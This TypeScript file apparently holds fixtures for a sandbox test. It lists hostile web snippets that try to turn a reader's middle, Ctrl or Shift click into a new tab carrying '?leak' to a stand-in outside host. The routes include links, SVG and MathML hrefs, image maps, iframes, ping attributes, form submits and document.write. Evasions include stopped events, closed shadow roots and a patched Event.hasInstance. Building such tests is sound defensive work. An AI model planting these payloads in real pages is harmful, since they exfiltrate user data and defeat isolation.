import type { SnippetGroup, HostileSnippet } from '../snippet';

const BLOCK = 'display: block; width: 200px; height: 40px';
const LINK = `const a = document.createElement('a'); a.href = 'http://' + TCP + '/?leak'; a.textContent = 'link'; a.style = '${BLOCK}';`;
const SHOWN = `${LINK} stage.append(a);`;
const DEAF = `for (const type of ['click', 'auxclick']) a.addEventListener(type, (e) => e.stopImmediatePropagation(), true);`;

const kinds: [string, string][] = [
  ['on a link', SHOWN],
  ['on a link that stops its events', `${SHOWN} ${DEAF}`],
  [
    'on a link whose window stops its events',
    `${SHOWN} for (const type of ['click', 'auxclick']) addEventListener(type, (e) => a.contains(e.target) && e.stopImmediatePropagation(), true);`,
  ],
  ['on a link in a closed shadow', `${LINK} stage.attachShadow({ mode: 'closed' }).append(a);`],
  [
    'on a link of a drawing',
    `stage.innerHTML = '<svg width=200 height=40><a href="http://' + TCP + '/?leak"><rect width=200 height=40 /></a></svg>'; stage.firstChild.addEventListener('click', (e) => e.stopPropagation());`,
  ],
  [
    'on a link of a nested document',
    `const f = document.createElement('iframe'); f.srcdoc = '<a href="http://' + TCP + '/?leak" style="${BLOCK}">link</a>'; f.style = '${BLOCK}'; stage.append(f); await new Promise((done) => setTimeout(done, 300));`,
  ],
  [
    'on a button that clicks a link elsewhere',
    `${LINK} const b = document.createElement('button'); b.style = '${BLOCK}'; b.textContent = 'button'; for (const type of ['mousedown', 'mouseup', 'click', 'auxclick']) b.addEventListener(type, () => { a.click(); a.dispatchEvent(new MouseEvent('click', { ctrlKey: true })); }); stage.append(b);`,
  ],
  [
    'on a button that clicks a link of no cancelling',
    `${LINK} stage.append(a); a.style.display = 'none'; const b = document.createElement('button'); b.style = '${BLOCK}'; for (const type of ['mousedown', 'mouseup', 'click']) b.addEventListener(type, () => a.dispatchEvent(new MouseEvent('click', { bubbles: true, shiftKey: true, ctrlKey: true }))); stage.append(b);`,
  ],
  ['on a link, with other classes in the window', `${SHOWN} window.Node = window.Event = {};`],
  [
    'on a button that clicks a link elsewhere, where no event is an event',
    `Object.defineProperty(Event, Symbol.hasInstance, { value: () => false }); ${LINK} const b = document.createElement('button'); b.style = '${BLOCK}'; for (const type of ['mousedown', 'mouseup', 'click', 'auxclick']) b.addEventListener(type, () => a.dispatchEvent(new MouseEvent('click', { ctrlKey: true }))); stage.append(b);`,
  ],
  [
    'on a link of a formula',
    `stage.innerHTML = '<math href="http://' + TCP + '/?leak"><mrow href="http://' + TCP + '/?leak"><mtext>a link of a formula</mtext></mrow></math>';`,
  ],
  [
    'on a link that a drawing gets later',
    `stage.innerHTML = '<svg width=200 height=40><a><set attributeName="href" to="http://' + TCP + '/?leak" begin="0s" /><rect width=200 height=40 /></a></svg>';`,
  ],
  [
    'on an image with places',
    `stage.innerHTML = '<img usemap="#places" style="${BLOCK}" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>"><map name=places><area href="http://' + TCP + '/?leak" coords="0,0,200,40"></map>';`,
  ],
  [
    'on a link that tells another host',
    `${SHOWN} a.href = '#place'; a.ping = 'http://' + TCP + '/?leak'; a.click();`,
  ],
  [
    'on a link without an address till the last moment',
    `${SHOWN} a.removeAttribute('href'); for (const type of ['click', 'auxclick']) a.addEventListener(type, (e) => { e.stopPropagation(); a.href = 'http://' + TCP; });`,
  ],
];

const gestures = ['middle click', 'Ctrl click', 'Shift click'] as const;
const chosen = kinds.flatMap(([where, code]) =>
  gestures.map((gesture): HostileSnippet => ({ name: `${gesture} ${where}`, code, gesture })),
);

/** Have the reader's own click open a tab elsewhere, with words in its address. */
export const CLICKS: SnippetGroup = {
  title: 'open tabs with the reader’s clicks',
  snippets: [
    ...chosen,
    {
      name: 'Ctrl click after the document was opened again',
      code: `document.open(); document.write('<a href="http://' + TCP + '/?leak" style="position: fixed; inset: 0">link</a>'); document.close()`,
      gesture: 'Ctrl click',
      alone: true,
    },
    {
      name: 'Ctrl click on a button that submits',
      code: `stage.innerHTML = '<form action="http://' + TCP + '"><button style="${BLOCK}">send</button></form>'`,
      gesture: 'Ctrl click',
      alone: true,
    },
  ],
};
